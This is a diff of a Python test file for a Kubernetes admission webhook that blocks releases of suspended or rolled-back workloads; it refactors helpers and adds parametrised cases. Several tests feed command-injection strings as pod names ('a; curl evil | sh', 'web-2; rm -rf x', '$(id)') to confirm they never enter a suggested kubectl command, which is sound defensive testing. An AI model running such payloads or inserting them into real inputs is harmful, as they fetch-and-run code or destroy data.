@@ -5,6 +5,7 @@ import re
 import unicodedata
 from typing import Any
 
+import jsonpatch
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -20,6 +21,7 @@ from tests.unit.gatekeeper.reviews import (
     ask,
     deployment,
     kind,
+    relabelled,
     release,
     released,
     review,
@@ -42,13 +44,31 @@ BIDIRECTIONAL = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
 
 def failed(*messages: str) -> StaticListers:
     """Listers after pods of the stored version failed verification."""
-    pods = [{"pod": f"sleep-5c698f4449-{n}", "message": m, "verdict": "unpass"} for n, m in enumerate(messages)]
-    return StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=pods))
+    return failed_pods(
+        *({"pod": f"sleep-5c698f4449-{n}", "message": m, "verdict": "unpass"} for n, m in enumerate(messages))
+    )
+
+
+def failed_pods(*pods: Object, status: str = "Suspend") -> StaticListers:
+    """Listers with a ChangeWorkload of the stored version in which these pods failed."""
+    return StaticListers(releases=release(OLD, status=status, defenseCheckFailPods=list(pods)))
 
 
 def suspended_release(**own: str) -> tuple[Object, Object]:
     """A suspended workload with a changed template after the mutating webhook, and the stored workload."""
     return released("busybox:2", suspend=SUSPENDED, **own), released(suspend=SUSPENDED)
+
+
+def unprocessed(image: str = "busybox", **own: str) -> Object:
+    """A workload whose version the reconciler has not processed yet."""
+    return relabelled(released(image, **own), defense_status=None)
+
+
+def passes(new: Object, old: Object | None = None, listers: StaticListers | None = None, **request: Any) -> bool:
+    """Whether the request passes. A denial has the code 403."""
+    response = validate(new, old, listers, **request)
+    assert response["allowed"] or response["status"]["code"] == 403
+    return bool(response["allowed"])
 
 
 def test_release_of_a_suspended_workload_is_denied_with_the_message_of_the_walkthrough() -> None:
@@ -96,13 +116,8 @@ def test_suspension_warnings_list_five_pods_and_count_the_others() -> None:
     assert sum("failed: x" in warning for warning in warnings) == 5
     assert "and 7 more pods failed" in warnings
     assert not any("delete" in each for each in warnings), "the pods are not the reason"
-
-
-def test_name_that_no_pod_can_have_is_in_no_command() -> None:
-    pods = [{"pod": name, "message": "x", "verdict": "unpass"} for name in ("web-1", "web-2; rm -rf x")]
-    listers = StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=pods))
-    warnings = validate(*suspended_release(), listers)["warnings"]
-    assert not any("kubectl delete pod" in each for each in warnings)
+    five = validate(*suspended_release(), failed(*"abcde"))["warnings"]
+    assert not any("more pods failed" in warning for warning in five)
 
 
 @given(st.lists(st.text(max_size=2000), max_size=8), st.text(max_size=40), st.text(max_size=253), st.text(max_size=63))
@@ -147,8 +162,7 @@ def test_denial_while_the_repair_is_verified_differs_from_the_denial_after_the_f
 
 def test_denial_before_the_repair_is_processed_does_not_ask_for_another_repair() -> None:
     """`kubectl rollout undo` as the repair: the ChangeWorkload of the earlier release of this version exists."""
-    new, old = suspended_release()
-    del old["metadata"]["labels"][labels.DEFENSE_STATUS]
+    new, old = suspended_release()[0], unprocessed(suspend=SUSPENDED)
     for listers in (StaticListers(), StaticListers(releases=release(OLD, status="Success")), failed("find error")):
         warnings = validate(new, old, listers)["warnings"]
         assert warnings[0].endswith(f"version {OLD}, which repairs the failure, is not verified yet (Init)")
@@ -176,6 +190,29 @@ def test_denial_after_a_failure_without_failed_pods_says_how_to_repair(status: s
     warnings = validate(*suspended_release(), StaticListers(releases=release(OLD, status=status)))["warnings"]
     assert warnings[0].endswith(f"version {OLD} failed verification")
     assert warnings[1].startswith("to repair, run this command")
+    assert not any("delete pod" in warning for warning in warnings)
+
+
+@pytest.mark.parametrize("status", ["Suspend", "Running"])
+@pytest.mark.parametrize(
+    ("pod", "shown"),
+    [({"message": "find error"}, "find error"), ({"verdict": "unpass"}, "unpass"), ({}, "no message")],
+    ids=["with a message", "with a verdict", "with neither"],
+)
+def test_warnings_name_a_failed_pod_with_its_message_or_verdict(status: str, pod: Object, shown: str) -> None:
+    warnings = validate(*suspended_release(), failed_pods({"pod": "a", **pod}, status=status))["warnings"]
+    assert f"version {OLD} failed verification" in warnings[0]
+    assert warnings[1] == f"pod a failed: {shown}"
+    assert "kubectl delete pod -n default a" in warnings[3]
+
+
+@pytest.mark.parametrize(
+    "names", [["web-1", "web-2; rm -rf x"], ["a; curl evil | sh"], ["--all"], ["$(id)"], ["a b"], [""]]
+)
+def test_name_that_no_pod_can_have_is_in_no_command(names: list[str]) -> None:
+    pods = [{"pod": name, "message": "x", "verdict": "unpass"} for name in names]
+    warnings = validate(*suspended_release(), failed_pods(*pods))["warnings"]
+    assert not any("delete pod" in warning for warning in warnings)
 
 
 def test_commands_in_denials_are_at_the_end_and_have_the_names_filled_in() -> None:
@@ -207,31 +244,19 @@ def test_every_denial_names_altershield_and_the_page() -> None:
         assert DENIED in text
 
 
-def test_all_times_in_denials_are_rfc_3339() -> None:
-    pattern = re.compile(r"\b\d{4}-\d{2}-\d{2}\S*")
-    suspended = validate(*suspended_release(), failed("find error"))
-    again = {"type": "RolledBack", "status": "True", "reason": "PodNotUp", "message": ROLLED_BACK_MESSAGE}
-    denied = validate(released("busybo"), released(), rolled_back(BAD, conditions=[again]))
-    text = "\n".join((*suspended["warnings"], denied["status"]["message"]))
-    found = [each.rstrip(":;") for each in pattern.findall(text)]
-    assert found == ["2023-05-11T07:46:15Z", "2026-08-21T07:29:49Z", "2026-08-21T07:31:49Z"]
-
-
 def test_warnings_contain_no_bidirectional_control_characters() -> None:
     warnings = validate(*suspended_release(), failed("find \u202eerror\u2066"))["warnings"]
     assert warnings[1] == "pod sleep-5c698f4449-0 failed: find error"
 
 
-@pytest.mark.parametrize("suspend", ["", "soon", "-1", "9" * 400])
-def test_release_is_denied_if_the_suspend_label_is_not_a_time(suspend: str) -> None:
-    new, old = suspended_release()
-    old["metadata"]["labels"][labels.SUSPEND] = suspend
-    assert validate(new, old)["status"]["code"] == 403
-
-
-def test_release_is_denied_if_the_same_request_removes_the_suspend_label() -> None:
-    _, old = suspended_release()
-    assert validate(released("busybox:2"), old)["allowed"] is False
+def test_all_times_in_denials_are_rfc_3339() -> None:
+    pattern = re.compile(r"\b\d{4}-\d{2}-\d{2}\S*")
+    suspended = validate(*suspended_release(), failed("find error"))
+    again = {**ROLLED_BACK, "reason": "PodNotUp", "message": ROLLED_BACK_MESSAGE}
+    denied = validate(released("busybo"), released(), rolled_back(BAD, conditions=[again]))
+    text = "\n".join((*suspended["warnings"], denied["status"]["message"]))
+    found = [each.rstrip(":;") for each in pattern.findall(text)]
+    assert found == ["2023-05-11T07:46:15Z", "2026-08-21T07:29:49Z", "2026-08-21T07:31:49Z"]
 
 
 def test_release_with_ignored_suspend_passes() -> None:
@@ -243,8 +268,7 @@ def test_release_with_ignored_suspend_passes() -> None:
 
 def test_second_repair_before_the_first_is_processed_is_denied_with_the_advice_to_wait() -> None:
     """The first repair is stored. The reconciler has not removed its label yet."""
-    first = released("busybox:2", suspend=SUSPENDED, ignored_suspend="true")
-    del first["metadata"]["labels"][labels.DEFENSE_STATUS]
+    first = unprocessed("busybox:2", suspend=SUSPENDED, ignored_suspend="true")
     response = validate(released("busybox:3", suspend=SUSPENDED, ignored_suspend="true"), first, failed("find error"))
     assert response["status"]["message"] == response["status"]["reason"] == f"{kind()} sleep is suspended"
     version = version_of(deployment("busybox:2"))
@@ -255,25 +279,53 @@ def test_second_repair_before_the_first_is_processed_is_denied_with_the_advice_t
     assert response["warnings"][1].endswith(f"version {version}, which repairs the failure, is not verified yet (Init)")
 
 
-@pytest.mark.parametrize("value", ["false", "", "True", "1"])
-def test_ignored_suspend_with_another_value_than_true_is_denied(value: str) -> None:
-    assert validate(*suspended_release(ignored_suspend=value))["allowed"] is False
+RELEASE, STORED = suspended_release()
+REPAIR, _ = suspended_release(ignored_suspend="true")
 
 
-def test_ignored_suspend_in_the_stored_object_only_is_denied() -> None:
-    new, old = suspended_release()
-    old["metadata"]["labels"][labels.IGNORED_SUSPEND] = "true"
-    assert validate(new, old)["allowed"] is False
+def with_sidecar(obj: Object) -> Object:
+    obj["spec"]["template"]["spec"]["containers"].append({"name": "sidecar", "image": "proxy"})
+    return obj
+
+
+STAYS_SUSPENDED = {
+    **{f"suspend is {text[:9]!r}": (RELEASE, released(suspend=text)) for text in ("", "soon", "-1", "9" * 400)},
+    **{
+        f"ignored-suspend is {text!r}": (suspended_release(ignored_suspend=text)[0], STORED)
+        for text in ("false", "", "True", "1")
+    },
+    "the request removes suspend": (released("busybox:2"), STORED),
+    "only the stored object has ignored-suspend": (RELEASE, released(suspend=SUSPENDED, ignored_suspend="true")),
+    "another webhook changed the template after the version was set": (with_sidecar(suspended_release()[1]), STORED),
+    "ignored-suspend let the stored version pass": (
+        released("busybox:3", suspend=SUSPENDED, ignored_suspend="true"),
+        unprocessed("busybox:2", suspend=SUSPENDED, ignored_suspend="true"),
+    ),
+    "defense-status is not `processed`": (REPAIR, released(suspend=SUSPENDED, defense_status="soon")),
+}
+
+
+@pytest.mark.parametrize(("new", "old"), STAYS_SUSPENDED.values(), ids=list(STAYS_SUSPENDED))
+def test_suspended_workload_is_not_released(new: Object, old: Object) -> None:
+    assert not passes(new, old)
+
+
+def test_repair_of_a_suspended_workload_without_a_version_passes() -> None:
+    """It was restored, or released while no gatekeeper decided. No other way leads out of the suspension."""
+    assert passes(REPAIR, relabelled(unprocessed(suspend=SUSPENDED), version=None))
+
+
+def test_creation_with_the_suspend_label_passes() -> None:
+    assert passes(STORED)
 
 
 def test_release_of_a_suspended_workload_by_the_reconciler_passes() -> None:
-    listers = StaticListers(releases=rolling_back())
-    assert validate(*suspended_release(), listers, user=RECONCILER)["allowed"] is True
+    assert passes(*suspended_release(), StaticListers(releases=rolling_back()), user=RECONCILER)
 
 
 def test_suspended_workload_stays_suspended_when_blocking_is_switched_off() -> None:
-    assert validate(*suspended_release(), StaticListers(blocking=False))["allowed"] is False
-    assert validate(*suspended_release(ignored_suspend="true"), StaticListers(blocking=False))["allowed"] is True
+    assert not passes(*suspended_release(), StaticListers(blocking=False))
+    assert passes(*suspended_release(ignored_suspend="true"), StaticListers(blocking=False))
 
 
 FAILED = [{"pod": "sleep-a", "uid": "a", "verdict": "unpass"}]
@@ -297,82 +349,62 @@ def test_release_is_denied_from_the_moment_the_status_suspends_it_before_the_lab
     ]
 
 
+@pytest.mark.parametrize(
+    "stored",
+    [
+        *({"status": status} for status in ("Init", "Running", "Success", "Failed", "Rollback")),
+        *(
+            {"spec": {"policy": {"namespace": "default", "name": "rules", "mode": mode}}}
+            for mode in ("observe", "warn")
+        ),
+        {"version": version_of(deployment("busybox:0"))},
+        {"blocking": False},
+        {"resumption": {"sinceUnix": 1, "pods": ["a"]}},
+    ],
+    ids=lambda stored: f"{stored}",
+)
+def test_status_suspends_nothing(stored: Object) -> None:
+    assert passes(released("busybox:2"), released(), unlabelled(**stored))
+
+
+def test_status_of_another_workload_suspends_nothing() -> None:
+    assert passes(released("busybox:2"), released(), unlabelled(owner=owner(uid="x")))
+
+
 def test_status_suspends_again_when_another_pod_fails_after_a_person_resumed() -> None:
-    listers = unlabelled(resumption={"sinceUnix": 1, "pods": ["b"]})
-    assert not validate(released("busybox:2"), released(), listers)["allowed"]
+    assert not passes(released("busybox:2"), released(), unlabelled(resumption={"sinceUnix": 1, "pods": ["b"]}))
 
 
-@pytest.mark.parametrize("status", ["Init", "Running", "Success", "Failed", "Rollback"])
-def test_no_other_status_suspends(status: str) -> None:
-    assert validate(released("busybox:2"), released(), unlabelled(status))["allowed"]
+def test_repair_and_other_changes_pass_a_suspension_by_the_status() -> None:
+    assert passes(released("busybox:2", ignored_suspend="true"), released(), unlabelled())
+    assert passes({**released(), "spec": {**released()["spec"], "replicas": 9}}, released(), unlabelled())
 
 
-@pytest.mark.parametrize("mode", ["observe", "warn"])
-def test_status_under_a_policy_that_does_not_enforce_suspends_nothing(mode: str) -> None:
-    listers = unlabelled(spec={"policy": {"namespace": "default", "name": "rules", "mode": mode}})
-    assert validate(released("busybox:2"), released(), listers)["allowed"]
+def test_version_that_was_released_again_is_not_suspended_by_the_status_of_its_earlier_release() -> None:
+    assert passes(released("busybox:2"), unprocessed(), unlabelled())
 
 
-def test_status_suspends_nothing_while_blocking_is_off_or_after_a_person_resumed() -> None:
-    assert validate(released("busybox:2"), released(), unlabelled(blocking=False))["allowed"]
-    resumed = unlabelled(resumption={"sinceUnix": 1, "pods": ["a"]})
-    assert validate(released("busybox:2"), released(), resumed)["allowed"]
+def in_labels(key: str) -> str:
+    return f"labels/{key.replace('/', '~1')}"
 
 
-def test_status_of_another_version_release_or_workload_suspends_nothing() -> None:
-    older = unlabelled(version=version_of(deployment("busybox:0")))
-    assert validate(released("busybox:2"), released(), older)["allowed"]
-    again = released()  # the version was released again, and has no ChangeWorkload of this release yet
-    del again["metadata"]["labels"][labels.DEFENSE_STATUS]
-    assert validate(released("busybox:2"), again, unlabelled())["allowed"]
-    owner = {"apiVersion": about().api_version, "kind": about().kind, "name": "sleep", "uid": "x", "controller": True}
-    assert validate(released("busybox:2"), released(), unlabelled(owner=owner))["allowed"]
-
-
-def test_repair_the_reconciler_and_other_changes_pass_a_suspension_by_the_status() -> None:
-    assert validate(released("busybox:2", ignored_suspend="true"), released(), unlabelled())["allowed"]
-    scaled = {**released(), "spec": {**released()["spec"], "replicas": 9}}
-    assert validate(scaled, released(), unlabelled())["allowed"]
-
-
-def test_template_change_with_an_unchanged_version_label_is_denied() -> None:
-    """Another webhook changed the template after the mutating webhook set the version."""
-    old = released(suspend=SUSPENDED)
-    new = released(suspend=SUSPENDED)
-    new["spec"]["template"]["spec"]["containers"].append({"name": "sidecar", "image": "proxy"})
-    assert validate(new, old)["allowed"] is False
-
-
-def scaled(obj: Object) -> None:
-    obj["spec"]["replicas"] = 0
-
-
-def annotated(obj: Object) -> None:
-    obj["metadata"]["annotations"] = {"deployment.kubernetes.io/revision": "7"}
-
-
-def with_status(obj: Object) -> None:
-    obj["status"] = {"observedGeneration": 7, "replicas": 5}
-
-
-def labelled(obj: Object) -> None:
-    obj["metadata"]["labels"][labels.IGNORED_SUSPEND] = "true"
-
-
-def paused(obj: Object) -> None:
-    obj["spec"]["paused"] = True
-
-
-def stripped(obj: Object) -> None:
-    del obj["spec"]["template"]["metadata"]["labels"][labels.VERSION]
-
-
-@pytest.mark.parametrize("change", [scaled, annotated, with_status, labelled, paused, stripped])
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"op": "add", "path": "/spec/replicas", "value": 0},
+        {"op": "add", "path": "/spec/paused", "value": True},
+        {"op": "add", "path": "/metadata/annotations", "value": {"deployment.kubernetes.io/revision": "7"}},
+        {"op": "add", "path": f"/metadata/{in_labels(labels.IGNORED_SUSPEND)}", "value": "true"},
+        {"op": "add", "path": "/status", "value": {"observedGeneration": 7, "replicas": 5}},
+        {"op": "remove", "path": f"/spec/template/metadata/{in_labels(labels.VERSION)}"},
+    ],
+    ids=lambda change: change["path"],
+)
 @pytest.mark.parametrize("webhook", [MUTATE, VALIDATE])
-def test_update_without_a_template_change_is_allowed(webhook: str, change: Any) -> None:
-    new = released(suspend=SUSPENDED)
-    change(new)
-    assert ask(webhook, review(new, released(suspend=SUSPENDED)), failed("x"))["allowed"] is True
+def test_update_without_a_template_change_is_allowed(webhook: str, change: Object) -> None:
+    old = released(suspend=SUSPENDED)
+    new = jsonpatch.apply_patch(old, [change])
+    assert ask(webhook, review(new, old), failed("x"))["allowed"] is True
 
 
 @pytest.mark.parametrize("webhook", [MUTATE, VALIDATE])
@@ -396,23 +428,18 @@ def test_dry_run_gets_the_same_response(webhook: str) -> None:
     assert ask(webhook, review(new, old, dryRun=True)) == ask(webhook, review(new, old))
 
 
-def test_creation_with_the_suspend_label_is_allowed() -> None:
-    assert validate(released(suspend=SUSPENDED))["allowed"] is True
+ROLLED_BACK = {"type": "RolledBack", "status": "True", "reason": ""}
 
 
 def rolled_back(version: str, **status: Any) -> StaticListers:
     condition = {
-        "type": "RolledBack",
-        "status": "True",
+        **ROLLED_BACK,
         "reason": "StartTimeout",
         "message": "pod sleep-1 did not come up within 120 s (ImagePullBackOff)",
         "lastTransitionTime": "2026-08-21T07:29:49Z",
     }
-    return StaticListers(
-        releases=release(
-            version, **{"status": "Failed", "entryTimeUnix": 1787297389, "conditions": [condition], **status}
-        )
-    )
+    own = {"status": "Failed", "entryTimeUnix": 1787297389, "conditions": [condition], **status}
+    return StaticListers(releases=release(version, **own))
 
 
 BAD = version_of(deployment("busybo"))
@@ -440,39 +467,44 @@ def test_creation_of_a_rolled_back_version_is_denied_with_a_label_for_the_manife
     )
 
 
-def test_version_whose_rollback_is_under_way_is_denied() -> None:
-    listers = rolled_back(BAD, status="Rollback", conditions=[])
-    assert validate(released("busybo"), released(), listers)["allowed"] is False
+def test_denial_of_a_rolled_back_version_without_a_reason_gives_none() -> None:
+    listers = StaticListers(releases=release(BAD, conditions=[ROLLED_BACK]))
+    message = validate(released("busybo"), released(), listers)["status"]["message"]
+    assert f" was rolled back; see {DENIED}; change the template" in message
 
 
-def test_another_version_passes_after_a_rollback() -> None:
-    assert validate(released("busybox:2"), released(), rolled_back(BAD))["allowed"] is True
+SCALED_BAD = {**released("busybo"), "spec": {**released("busybo")["spec"], "replicas": 9}}
+RELABELLED_BAD = deployment("busybo", own={labels.VERSION: OLD}, template_version=OLD)
 
 
-def test_scaling_passes_while_the_version_is_rolled_back() -> None:
-    new = released("busybo")
-    new["spec"]["replicas"] = 9
-    assert validate(new, released("busybo"), rolled_back(BAD, status="Rollback"))["allowed"] is True
+def test_rolled_back_version_is_denied_whatever_its_labels_say_and_while_its_rollback_is_under_way() -> None:
+    assert not passes(RELABELLED_BAD, released(), rolled_back(BAD))
+    assert not passes(released("busybo"), None, rolled_back(BAD, status="", conditions=[ROLLED_BACK]))
+    assert not passes(released("busybo"), released(), rolled_back(BAD, status="Rollback", conditions=[]))
+
+
+def test_repairs_scaling_and_other_versions_pass_after_a_rollback() -> None:
+    assert passes(released("busybo", ignored_suspend="true"), released(), rolled_back(BAD))
+    assert passes(released("busybo", ignored_suspend="true"), None, rolled_back(BAD))
+    assert passes(SCALED_BAD, released("busybo"), rolled_back(BAD, status="Rollback"))
+    assert passes(released("busybox:2"), released(), rolled_back(BAD))
 
 
 @pytest.mark.parametrize("status", ["Running", "Success", "Suspend", "Failed", "Init"])
 def test_version_that_was_not_rolled_back_passes(status: str) -> None:
-    listers = StaticListers(releases=release(BAD, status=status))
-    assert validate(released("busybo"), released(), listers)["allowed"] is True
+    assert passes(released("busybo"), released(), rolled_back(BAD, status=status, conditions=[]))
 
 
-def test_rolled_back_version_passes_with_ignored_suspend_for_the_reconciler_and_without_blocking() -> None:
+def test_rolled_back_version_passes_for_the_reconciler_and_without_blocking() -> None:
     listers = rolled_back(BAD)
-    assert validate(released("busybo", ignored_suspend="true"), released(), listers)["allowed"] is True
     listers.releases |= rolling_back("busybo")
-    assert validate(released("busybo"), released(), listers, user=RECONCILER)["allowed"] is True
+    assert passes(released("busybo"), released(), listers, user=RECONCILER)
     listers.blocking = False
-    assert validate(released("busybo"), released(), listers)["allowed"] is True
+    assert passes(released("busybo"), released(), listers)
 
 
 def test_second_release_of_a_rolled_back_version_before_the_first_is_processed_is_denied() -> None:
-    first = released("busybox:2", ignored_suspend="true")
-    del first["metadata"]["labels"][labels.DEFENSE_STATUS]
+    first = unprocessed("busybox:2", ignored_suspend="true")
     response = validate(released("busybo", ignored_suspend="true"), first, rolled_back(BAD))
     assert "was rolled back" in response["status"]["message"]
     assert "is not processed yet" in response["warnings"][0]
@@ -484,8 +516,7 @@ def test_second_release_of_a_rolled_back_version_before_the_first_is_processed_i
 @pytest.mark.parametrize(("user", "passes"), [(RECONCILER, True), ("jane", False)])
 def test_label_that_is_set_right_after_a_rollback_lets_a_release_pass(user: str, passes: bool) -> None:
     """The version that the rollback released is not processed yet. It needed no pass."""
-    present = released("busybox:2", ignored_suspend="true")
-    del present["metadata"]["labels"][labels.DEFENSE_STATUS]
+    present = unprocessed("busybox:2", ignored_suspend="true")
     value = released_by.encode(user, version_of(deployment("busybox:2")), 1_700_000_000)
     present["metadata"]["annotations"] = {released_by.ANNOTATION: value}
     assert validate(released("busybo", ignored_suspend="true"), present, rolled_back(BAD))["allowed"] is passes
@@ -509,14 +540,18 @@ def owner(**changes: str) -> Object:
     return {**ours, "controller": True, **changes}
 
 
+OTHER_UID = {"uid": "other"}
+OUR_UID = {"uid": released()["metadata"]["uid"]}
+
+
 @pytest.mark.parametrize(
     ("changes", "spec", "belongs"),
     [
         ({}, {}, True),
-        ({"uid": "other"}, {}, False),
+        (OTHER_UID, {}, False),
         ({"kind": "Job"}, {}, False),
         ({"apiVersion": "batch/v1"}, {}, False),
-        ({"uid": "other"}, {"workloadRef": {"uid": released()["metadata"]["uid"]}}, True),
+        (OTHER_UID, {"workloadRef": OUR_UID}, True),
         (None, {}, True),
         (None, {"workloadRef": {"kind": "Job", "name": "sleep", "uid": "other"}}, False),
     ],
@@ -525,102 +560,32 @@ def test_changeworkload_denies_only_its_own_workload(
     changes: dict[str, str] | None, spec: Object, belongs: bool
 ) -> None:
     listers = rolled_back(BAD, owner=None if changes is None else owner(**changes), spec=spec)
-    assert validate(released("busybo"), released(), listers)["allowed"] is not belongs
+    assert passes(released("busybo"), released(), listers) is not belongs
 
 
-def test_rolled_back_template_with_another_version_label_is_denied() -> None:
-    new = deployment("busybo", own={labels.VERSION: OLD}, template_version=OLD)
-    assert validate(new, released(), rolled_back(BAD))["allowed"] is False
+def test_uid_of_the_stored_workload_selects_its_changeworkloads() -> None:
+    forged = released("busybo")
+    forged["metadata"]["uid"] = "forged"
+    listers = rolled_back(BAD, spec={"workloadRef": OUR_UID}, owner=owner(**OTHER_UID))
+    assert not passes(forged, released(), listers)
 
 
 def test_denial_contains_no_control_characters_and_is_short() -> None:
-    condition = {"type": "RolledBack", "status": "True", "reason": "x", "message": "a\nb\x1b[31m" + "c" * 5000}
+    condition = {**ROLLED_BACK, "reason": "x", "message": "a\nb\x1b[31m" + "c" * 5000}
     message = validate(released("busybo"), released(), rolled_back(BAD, conditions=[condition]))["status"]["message"]
     assert "a b [31mcc" in message
     assert len(message) < 900
 
 
-def without_version(obj: Object) -> Object:
-    del obj["metadata"]["labels"][labels.VERSION]
-    return obj
-
-
 def test_denial_without_ignored_suspend_does_not_advise_to_wait() -> None:
-    new, old = suspended_release()
-    del old["metadata"]["labels"][labels.DEFENSE_STATUS]
+    new, old = suspended_release()[0], unprocessed(suspend=SUSPENDED)
     assert not any("not processed yet" in warning for warning in validate(new, old)["warnings"])
-
-
-def test_repair_of_a_suspended_workload_without_a_version_passes_and_stores_a_version() -> None:
-    """It was restored, or released while no gatekeeper decided. No other way leads out of the suspension."""
-    new, old = suspended_release(ignored_suspend="true")
-    del old["metadata"]["labels"][labels.DEFENSE_STATUS]
-    assert validate(new, without_version(old))["allowed"] is True
-    stored = released("busybox:2", suspend=SUSPENDED, ignored_suspend="true")
-    del stored["metadata"]["labels"][labels.DEFENSE_STATUS]
-    again = released("busybox:3", suspend=SUSPENDED, ignored_suspend="true")
-    assert validate(again, stored)["allowed"] is False, "the label let that version pass"
 
 
 def test_suspended_workload_without_a_version_is_denied_with_version_unknown() -> None:
     new, old = suspended_release()
-    warnings = validate(new, without_version(old))["warnings"]
+    warnings = validate(new, relabelled(old, version=None))["warnings"]
     assert warnings[0].endswith("version unknown failed verification (its ChangeWorkload does not exist)")
-
-
-def test_second_repair_is_denied_while_defense_status_is_not_processed() -> None:
-    new, old = suspended_release(ignored_suspend="true")
-    old["metadata"]["labels"][labels.DEFENSE_STATUS] = "soon"
-    assert validate(new, old)["allowed"] is False
-
-
-def test_creation_of_a_rolled_back_version_with_ignored_suspend_passes() -> None:
-    new = released("busybox:2", ignored_suspend="true")
-    condition = {"type": "RolledBack", "status": "True", "reason": "PodNotUp"}
-    listers = StaticListers(releases=release(version_of(deployment("busybox:2")), conditions=[condition]))
-    assert validate(released("busybox:2"), None, listers)["allowed"] is False
-    assert validate(new, None, listers)["allowed"] is True
-
-
-def test_denial_of_a_rolled_back_version_without_a_reason_gives_none() -> None:
-    condition = {"type": "RolledBack", "status": "True", "reason": ""}
-    listers = StaticListers(releases=release(version_of(deployment("busybox:2")), conditions=[condition]))
-    message = validate(released("busybox:2"), released(), listers)["status"]["message"]
-    assert f" was rolled back; see {DENIED}; change the template" in message
-
-
-def test_suspension_warnings_name_failed_pods_of_a_running_release() -> None:
-    listers = StaticListers(
-        releases=release(OLD, status="Running", defenseCheckFailPods=[{"pod": "a", "message": "find error"}])
-    )
-    warnings = validate(*suspended_release(), listers)["warnings"]
-    assert f"version {OLD} failed verification" in warnings[0]
-    assert warnings[1] == "pod a failed: find error"
-
-
-def test_suspended_release_without_failed_pods_names_no_pod_to_delete() -> None:
-    warnings = validate(*suspended_release(), StaticListers(releases=release(OLD, status="Suspend")))["warnings"]
-    assert f"version {OLD} failed verification" in warnings[0]
-    assert not any("delete pod" in warning for warning in warnings)
-
-
-def test_suspension_warnings_name_a_failed_pod_without_message_and_verdict() -> None:
-    listers = StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=[{"pod": "a"}]))
-    warnings = validate(*suspended_release(), listers)["warnings"]
-    assert warnings[1] == "pod a failed: no message"
-    assert "kubectl delete pod -n default a" in warnings[3]
-
-
-@pytest.mark.parametrize("name", ["a; curl evil | sh", "--all", "$(id)", "a b", ""])
-def test_text_that_is_no_name_of_a_pod_is_not_part_of_a_command_to_paste(name: str) -> None:
-    listers = StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=[{"pod": name}]))
-    warnings = validate(*suspended_release(), listers)["warnings"]
-    assert not any("delete pod" in warning for warning in warnings)
-
-
-def test_suspension_warnings_count_no_pods_if_five_failed() -> None:
-    warnings = validate(*suspended_release(), failed(*"abcde"))["warnings"]
-    assert not any("more pods failed" in warning for warning in warnings)
 
 
 @pytest.mark.parametrize("suspend", ["\u0661\u0662\u0663", "9" * 5000], ids=["other digits", "too many digits"])
@@ -628,17 +593,6 @@ def test_suspension_warnings_leave_out_a_time_that_is_not_a_unix_time(suspend: s
     new, old = suspended_release()
     old["metadata"]["labels"][labels.SUSPEND] = suspend
     assert validate(new, old)["warnings"][0].startswith(f"AlterShield: releases of {kind()} sleep are suspended: ")
-
-
-def test_uid_of_the_stored_workload_selects_its_changeworkloads() -> None:
-    new, old = released("busybox:2"), released()
-    new["metadata"]["uid"] = "forged"
-    ref = {"apiVersion": about().api_version, "kind": about().kind, "name": "sleep", "uid": old["metadata"]["uid"]}
-    owner = {"apiVersion": "v1", "kind": "Other", "name": "sleep", "uid": "x", "controller": True}
-    condition = {"type": "RolledBack", "status": "True", "reason": "PodNotUp"}
-    version = version_of(deployment("busybox:2"))
-    known = release(version, spec={"workloadRef": ref}, owner=owner, conditions=[condition])
-    assert validate(new, old, StaticListers(releases=known))["allowed"] is False
 
 
 def test_commands_for_a_review_without_a_namespace_name_none() -> None:
